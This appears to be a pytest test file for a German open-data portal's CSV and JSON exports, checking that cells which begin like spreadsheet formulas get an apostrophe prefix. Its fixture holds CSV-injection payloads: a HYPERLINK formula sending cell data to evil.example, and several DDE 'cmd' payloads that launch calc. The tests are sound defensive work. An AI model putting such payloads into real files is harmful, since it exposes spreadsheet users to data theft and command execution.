"""CSV injection: the CSV never hands a spreadsheet a formula; the JSON stays exact."""

import csv
import io
import json

import pytest

from tests import factories

pytestmark = pytest.mark.django_db

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?d="&A1,"Förderung")',
    "summary": "+cmd|' /C calc'!A0",
    "description": "-2+3+cmd|' /C calc'!A0",
    "amount_note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "region_note": "\t=1+1",
    "obligations": "\r=1+1",
}


@pytest.fixture
def poisoned(db):
    return factories.programme(
        provider=factories.partner(name="=1+1 Klinik"),
        eligibility="Ärztinnen und Ärzte",
        **FORMULAS,
    )


def body(response):
    return b"".join(response.streaming_content).decode("utf-8")


def test_csv_cells_that_start_like_formulas_get_an_apostrophe(client, poisoned):
    text = body(client.get("/foerderungen/offene-daten/programme.csv"))
    row = next(csv.DictReader(io.StringIO(text)))
    for name, value in FORMULAS.items():
        assert row[name] == "'" + value, name
    assert row["provider"] == "'=1+1 Klinik"
    assert row["eligibility"] == "Ärztinnen und Ärzte"
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def test_json_keeps_every_value_exactly(client, poisoned):
    document = json.loads(body(client.get("/foerderungen/offene-daten/programme.json")))
    item = document["programmes"][0]
    for name, value in FORMULAS.items():
        assert item[name] == value, name
    assert item["provider"] == "=1+1 Klinik"


def test_the_documentation_says_how_the_csv_treats_formulas(client):
    html = client.get("/foerderungen/offene-daten/").content.decode()
    assert "Apostroph" in html
    assert "Die JSON-Datei enthält alle Werte unverändert" in html
